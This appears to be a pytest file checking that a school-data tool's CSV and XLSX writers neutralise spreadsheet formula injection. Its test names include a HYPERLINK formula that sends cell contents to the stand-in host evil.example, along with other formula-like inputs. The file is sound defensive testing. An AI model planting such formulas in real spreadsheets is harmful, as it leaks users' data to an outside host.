"""Cells of the files junheng writes are data, never formulas (junheng.spreadsheets; issue 11,
defect 14): the helper's rule, every XLSX writer of the product (no <f> element in any sheet),
and the interchange format's round trip (a formula-like name reads back exactly, CSV and XLSX)."""

from __future__ import annotations

import io
import zipfile
from pathlib import Path

import builders
import openpyxl
import pandas as pd
import pytest

from junheng.data.dataset import Dataset
from junheng.data.importer import load_dataset
from junheng.data.writer import write_dataset_csv, write_dataset_xlsx
from junheng.spreadsheets import csv_cell, literal_row, looks_like_formula, save_workbook

NAMES = ['=HYPERLINK("http://evil.example/?"&A1,"点此")', "+1+2", "-2+3", "@SUM(A1)", "\t=1", "\r=1",
         "#DIV/0!", "-负数开头的校名", "'引号开头", "普通学校"]
# the six schools of builders (the importer trims blanks around a text, so no leading tab or CR here)
SCHOOL_NAMES = [NAMES[0], "+1+2", "-2+3", "@SUM(A1)", "#DIV/0!", "-负数开头的校名"]


@pytest.mark.parametrize(("value", "written"), [
    ("=1+1", "'=1+1"), ("+1+2", "'+1+2"), ("-2+3", "'-2+3"), ("@SUM(A1)", "'@SUM(A1)"), ("\tx", "'\tx"),
    ("\rx", "'\rx"), ("=", "'="), ("-", "'-"),
    # numbers and plain texts are left as they are
    ("-5", "-5"), ("+3.5", "+3.5"), ("-0.25", "-0.25"), ("1e-3", "1e-3"), ("-.5", "-.5"), ("实验小学", "实验小学"),
    ("", ""), ("a=b", "a=b"), (-5, -5), (2.5, 2.5), (None, None), (True, True),
])
def test_a_csv_for_people_writes_formula_like_texts_with_an_apostrophe(value, written):
    assert csv_cell(value) == written
    assert looks_like_formula(value) == (written != value)


def formula_sheets(content: bytes) -> list[str]:
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        return [n for n in archive.namelist() if n.startswith("xl/worksheets/")
                and (b"<f>" in archive.read(n) or b"<f " in archive.read(n))]


def test_a_saved_workbook_keeps_texts_as_text_and_numbers_as_numbers(tmp_path):
    workbook = openpyxl.Workbook()
    workbook.active.append([*NAMES, -5, 3.25, 0])
    path = tmp_path / "w.xlsx"
    save_workbook(workbook, path)
    assert formula_sheets(path.read_bytes()) == []
    row = next(openpyxl.load_workbook(path).active.iter_rows(values_only=True))
    assert list(row) == [*NAMES, -5, 3.25, 0]
    cells = next(openpyxl.load_workbook(path).active.iter_rows())
    assert [c.data_type for c in cells] == ["s"] * len(NAMES) + ["n", "n", "n"]


def test_a_write_only_row_keeps_texts_as_text(tmp_path):
    workbook = openpyxl.Workbook(write_only=True)
    sheet = workbook.create_sheet("表")
    sheet.append(literal_row(sheet, [*NAMES, -5, None, 1.5]))
    path = tmp_path / "w.xlsx"
    workbook.save(path)
    assert formula_sheets(path.read_bytes()) == []
    assert list(next(openpyxl.load_workbook(path).active.iter_rows(values_only=True))) == [*NAMES, -5, None, 1.5]


def named_dataset() -> Dataset:
    schools = [builders.school(i, t) for i, t in builders.default_schools()]
    for school, name in zip(schools, SCHOOL_NAMES, strict=True):
        school["school_name"] = name
    years = [builders.school_year(s["school_id"], s["school_type"]) for s in schools]
    return Dataset.from_frames(source="tests", schools=pd.DataFrame(schools), school_year=pd.DataFrame(years),
                               county_year=pd.DataFrame([builders.county_year()]),
                               quality=pd.DataFrame(builders.quality()))


@pytest.mark.parametrize("layout", ["csv", "xlsx"])
def test_the_interchange_format_reads_formula_like_names_back_exactly(tmp_path, layout):
    dataset = named_dataset()
    target = tmp_path / ("data" if layout == "csv" else "data.xlsx")
    (write_dataset_csv if layout == "csv" else write_dataset_xlsx)(dataset, target)
    if layout == "xlsx":
        assert formula_sheets(target.read_bytes()) == []
    loaded = load_dataset(target)
    assert list(loaded.schools["school_name"]) == list(dataset.schools["school_name"])


def test_the_csv_interchange_format_is_written_verbatim_by_decision(tmp_path):
    """docs/methods.md: the CSV layout is data for the importer, not a sheet for people; an
    apostrophe there would change the name on the way back."""
    write_dataset_csv(named_dataset(), tmp_path / "data")
    text = (tmp_path / "data" / "schools.csv").read_text("utf-8-sig")
    assert '"=HYPERLINK(""http://evil.example/?""&A1,""点此"")"' in text


def test_every_workbook_writer_of_the_product_writes_no_formula(tmp_path):
    from junheng.data.template import write_template
    from junheng.engine.evaluate import evaluate_dataset
    from junheng.monitor.inputs import write_forecast_template
    from junheng.reports.api import county_report
    from junheng.reports.xlsx import write_results_xlsx

    dataset = named_dataset()
    results = evaluate_dataset(dataset)
    files: dict[str, bytes] = {}
    for name, write in (("results.xlsx", lambda p: write_results_xlsx(results, p)), ("template.xlsx", write_template),
                        ("forecast.xlsx", write_forecast_template)):
        write(tmp_path / name)
        files[name] = Path(tmp_path / name).read_bytes()
    files["report.xlsx"] = county_report(results[0], "xlsx", dataset=dataset).content
    for name, content in files.items():
        assert formula_sheets(content) == [], name
    for name in ("results.xlsx", "report.xlsx"):
        texts = {c.value for s in openpyxl.load_workbook(io.BytesIO(files[name])).worksheets
                 for row in s.iter_rows() for c in row if isinstance(c.value, str)}
        assert NAMES[0] in texts, name
